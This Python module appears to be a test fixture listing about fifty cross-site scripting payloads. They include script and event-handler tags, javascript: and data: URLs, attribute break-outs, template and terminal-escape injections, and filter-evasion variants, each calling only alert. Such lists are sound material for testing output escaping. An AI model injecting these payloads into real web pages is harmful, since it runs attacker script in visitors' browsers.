"""Texts that try to run a script in whoever shows them: markup, addresses, ways out of attributes, templates, escapes.

Each calls `alert`. Shown as text, none of them does anything.
"""

from __future__ import annotations

#: Put into a page as HTML, these run at once or when something loads, fails or is focused.
MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src='data:text/javascript,alert(3)'></script>",
    "<script type=module>alert(4)</script>",
    "<img src=x onerror=alert(5)>",
    "<img src=x onerror=\"alert('6')\">",
    "<IMG SRC=x OnErRoR=alert(7)>",
    "<img/src=x/onerror=alert(8)>",
    "<img src=x:x onerror=alert(9) //",
    "<img srcset=',x' onerror=alert(10)>",
    "<svg onload=alert(11)>",
    "<svg/onload=alert(12)>",
    "<svg><script>alert(13)</script></svg>",
    "<svg><g onload=alert(14)></g></svg>",
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(16) attributeName=x to=y>",
    "<body onload=alert(17)>",
    "<iframe onload=alert(18)></iframe>",
    "<iframe src='javascript:parent.alert(19)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(20)</script>'></iframe>",
    "<input autofocus onfocus=alert(21)>",
    "<select autofocus onfocus=alert(22)></select>",
    "<textarea autofocus onfocus=alert(23)></textarea>",
    "<button autofocus onfocus=alert(24)>x</button>",
    "<video src=x onerror=alert(25)></video>",
    "<video><source onerror=alert(26)></video>",
    "<audio src=x onerror=alert(27)></audio>",
    "<object data='javascript:alert(28)'></object>",
    "<embed src='javascript:alert(29)'>",
    "<details open ontoggle=alert(30)>x</details>",
    "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=alert(31)>x</p>",
    "<p tabindex=1 autofocus onfocus=alert(32)>x</p>",
    "</title><script>alert(33)</script>",
    "</textarea></script><img src=x onerror=alert(34)>",
    "<!--><img src=x onerror=alert(35)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(36)>'></noscript>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(37)>",
    "<a href='javascript:alert(38)'>x</a>",
    "<form action='javascript:alert(39)'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(40)'>",
)

#: These run where a text becomes part of something else: an attribute, an address, a template, a string, a terminal.
PLACED = (
    '" autofocus onfocus=alert(41) x="',
    "' onmouseover=alert(42) x='",
    "javascript:alert(43)",
    " JaVaScRiPt:alert(44)",
    "java\tscript:alert(45)",
    "data:text/html,<script>alert(46)</script>",
    "{{constructor.constructor('alert(47)')()}}",
    "${alert(48)}`;alert(48);//",
    "\x1b]8;;javascript:alert(49)\x07click\x1b]8;;\x07 \x1b[31mred\x1b[0m",
    "\u202e>tpircs/<)05(trela>tpircs<\u202c</script><script>alert(50)</script>",
)

PAYLOADS = (*MARKUP, *PLACED)
